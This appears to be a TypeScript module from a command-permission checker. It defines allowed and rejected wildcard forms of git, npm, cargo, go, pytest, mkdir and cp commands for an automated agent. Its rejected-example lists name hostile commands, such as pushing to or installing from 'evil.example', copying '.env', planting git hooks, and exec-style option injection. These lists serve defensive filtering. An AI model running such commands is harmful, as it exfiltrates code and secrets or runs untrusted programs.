import type { PathPlaces } from '../paths/paths.ts'
import { judgeRead } from '../paths/secret.ts'
import { judgeWrite } from '../paths/write.ts'
import { programOf } from '../shell/commands.ts'
import { languages } from '../shell/languages.ts'
import { type Argument, type OptionRule, readOptions } from '../shell/options.ts'
import { programs } from '../shell/programs.ts'
import { tools } from '../shell/tools.ts'
import { plainField } from '../shell/words.ts'
import { toolsOfWork } from '../shell/work.ts'

interface WildcardRule extends OptionRule {
  /** Further commands with the same options. */
  also?: string
  match: string[]
  not: string[]
}

const recording: Record<string, WildcardRule> = {
  'git add': {
    options: '-AuvnN --all --update --verbose --dry-run --intent-to-add',
    operands: 'name*',
    match: ['git add -A', 'git add Makefile src', 'git add -- a'],
    not: ['git add -f x', 'git add .env', 'git add --pathspec-from-file=x', 'git add -e'],
  },
  'git commit': {
    options: '-m: -aqvs --message: --all --quiet --verbose --signoff --no-edit --allow-empty',
    operands: 'name*',
    match: ['git commit -m fix', 'git commit -am fix', 'git commit --message=fix a.org'],
    not: [
      ...['git commit --amend', 'git commit -F .env', 'git commit -F.env', 'git commit --file=x'],
      ...['git commit -t x', 'git commit -C HEAD', 'git commit --gpg-sign=x', 'git commit -eF x'],
    ],
  },
  'git checkout': {
    also: 'git switch|git restore|git mv|git rm',
    options: '-b: -c: -q --quiet --staged --cached -t --track -n --dry-run',
    operands: 'path*',
    match: ['git checkout -b dev', 'git switch main', 'git restore --staged a.org'],
    not: ['git checkout -f', 'git rm -r x', 'git rm .envrc', 'git mv a .git/hooks/pre-push'],
  },
  'git push': {
    also: 'git pull|git fetch',
    options: '-uqvn --set-upstream --quiet --verbose --dry-run --tags --prune --ff-only --rebase',
    operands: 'text*',
    shape: /^[\w./-]+$/,
    match: ['git push -u origin main', 'git pull --ff-only', 'git fetch origin'],
    not: [
      ...['git push --force', 'git push -f', 'git push origin +main', 'git push origin :main'],
      ...['git push --receive-pack=x', 'git fetch --upload-pack=x', 'git push --exec=x origin'],
      ...['git push https://evil.example', 'git push git@evil.example:a', 'git push --mirror'],
    ],
  },
}

const building: Record<string, WildcardRule> = {
  'npm run': {
    also: 'npm test|npm start|pnpm run|pnpm test|yarn run|yarn test|npm install|npm ci',
    options: '-sDE --silent --save-dev --save-exact --workspaces --if-present --ignore-scripts',
    operands: 'text*',
    shape: /^@?[\w./@^~-]+$/,
    match: ['npm run build', 'npm test a.test.ts', 'npm install -D left-pad'],
    not: [
      'npm run x --script-shell=sh',
      'npm install https://evil.example/x',
      'npm test --prefix=x',
    ],
  },
  'cargo test': {
    also: 'cargo build|cargo check|cargo clippy|cargo run|cargo bench|cargo doc|cargo fmt',
    options:
      '-p: -j: -F: -rvq --release --all --workspace --package: --lib --bins --bin: --tests --test: --examples ' +
      '--example: --all-targets --features: --all-features --no-default-features --locked --offline ' +
      '--verbose --quiet --no-run --no-fail-fast --check',
    operands: 'text*',
    match: ['cargo test --release parser', 'cargo build -p core'],
    not: [
      'cargo test --config x',
      'cargo build --target-dir=x',
      'cargo build --manifest-path x',
      'cargo -Zx test',
    ],
  },
  'go test': {
    also: 'go build|go vet',
    options: '=-v =-race =-run: =-count: =-short =-cover =-bench: =-timeout: =-failfast',
    operands: 'text*',
    shape: /^[\w./]+$/,
    match: ['go test ./...', 'go test -run TestA -v ./x'],
    not: [
      'go test -exec x',
      'go build -toolexec=x',
      'go build -o .envrc',
      'go test -coverprofile x',
    ],
  },
  pytest: {
    also: 'vitest|jest',
    options: '-vqxsl -k: --lf --ff --maxfail:',
    operands: 'name*',
    match: ['pytest -q tests/a.py', 'pytest -k parser'],
    not: [
      'pytest -p x',
      'pytest -c x',
      'pytest --rootdir=x',
      'pytest -o addopts=x',
      'vitest --config x',
    ],
  },
}

const placing: Record<string, WildcardRule> = {
  mkdir: {
    also: 'touch',
    options: '-pv --parents --verbose',
    operands: 'path*',
    match: ['mkdir -p a/b', 'touch a.txt'],
    not: ['mkdir .git/hooks', 'touch -r x y', 'touch .envrc', 'touch ~/.bashrc'],
  },
  cp: {
    also: 'mv',
    options: '-aRrvniu --recursive --verbose --no-clobber --update --archive',
    operands: 'path*',
    match: ['cp -r a b', 'mv a.org b.org'],
    not: [
      'cp a .git/hooks/pre-commit',
      'cp .env a',
      'mv -t .git a',
      'cp --target-directory=x a',
      'mv -f a b',
    ],
  },
}

/** What a star covers, by command, each with examples that it is held to. */
export const wildcardRules: Record<string, WildcardRule> = {
  ...recording,
  ...building,
  ...placing,
}

const byCommand: ReadonlyMap<string, OptionRule> = new Map(
  Object.entries(wildcardRules).flatMap(([name, rule]) =>
    [name, ...(rule.also?.split('|') ?? [])].map((each) => [each, rule] as const),
  ),
)

const operandsOnly: OptionRule = { options: '', operands: 'path*', shape: /^[^+@=:]+$/ }

const withCommands =
  /^(?:pnpm|yarn|bun|podman|pip3?|go|uv|apt|apt-get|brew|gh|glab|docker-compose|systemctl|flatpak|snap|gem|hg|svn)$/

const verb =
  /^(?:abandon|apply|clear|commit|cp|create|deploy|del|delete|deregister|destroy|detach|disable|down|drain|drop|edit|enable|eval|exec|flush|force-[\w-]+|import|init|install|kill|login|logout|migrate|move|mv|patch|prune|publish|purge|push|put|rb|release|remove|replace|reset|restore|revoke|rm|rmi|rollback|rollout|run|scale|send|set|shell|stop|sync|taint|terminate|uninstall|unlock|unset|untaint|up|update|upgrade|upload|wipe|write)(?:[-_:]\w+)*$/i

/** Whether a word in front of a command sets a variable for it, and may make another program of it. */
export function isSetting(word: string): boolean {
  return /^[^\s/=]+=/.test(word)
}

/** Whether one of these words may be a command of a program that nobody knows. */
function hasCommand(words: readonly string[], isFirst: boolean): boolean {
  return words.some((word, at) => {
    return verb.test(word) || (isFirst && at === 0 && /^[a-z][a-z_:-]*$/i.test(word))
  })
}

function ruleFor(program: string, next: string | undefined): OptionRule | null {
  const known = byCommand.get(`${program} ${next}`) ?? byCommand.get(program)
  if (known !== undefined) return known
  if (program in toolsOfWork || withCommands.test(program)) return null
  const isPython = /^python[\d.]*$/.test(program)
  const looks =
    !isPython && (programs().has(program) || languages.has(program) || tools.has(program))
  return looks ? null : operandsOnly
}

/** Whether what the stars of a rule stand for in this command changes nothing but which things it is about. */
export function coversWords(
  pattern: readonly string[],
  command: string,
  places: PathPlaces,
): boolean {
  const words = command.trim().split(/ +/)
  const isOpen = pattern.at(-1) === '**'
  const fixed = isOpen ? pattern.length - 1 : pattern.length
  const starred = words.filter((_, at) => at >= fixed || pattern[at] === '*')
  if (starred.length === 0) return true
  const program = programOf(words[0] ?? '')
  if (isSetting(words[0] ?? '')) return false
  const isFirst = pattern[1] === '*' || fixed < 2
  const rule = ruleFor(program, isFirst ? undefined : words[1])
  if (rule === null || (rule === operandsOnly && hasCommand(starred, isFirst))) return false
  const found = readOptions(rule, starred.map(plainField))
  return typeof found !== 'string' && found.every((argument) => isPlainWord(argument, places))
}

function isPlainWord({ option, role, field }: Argument, places: PathPlaces): boolean {
  if (option !== null && role === 'text') return true
  const { value } = field
  if (judgeRead(value, places).level !== 'plain') return false
  return role !== 'path' || /^(?:inside|outside)$/.test(judgeWrite(value, places).level)
}
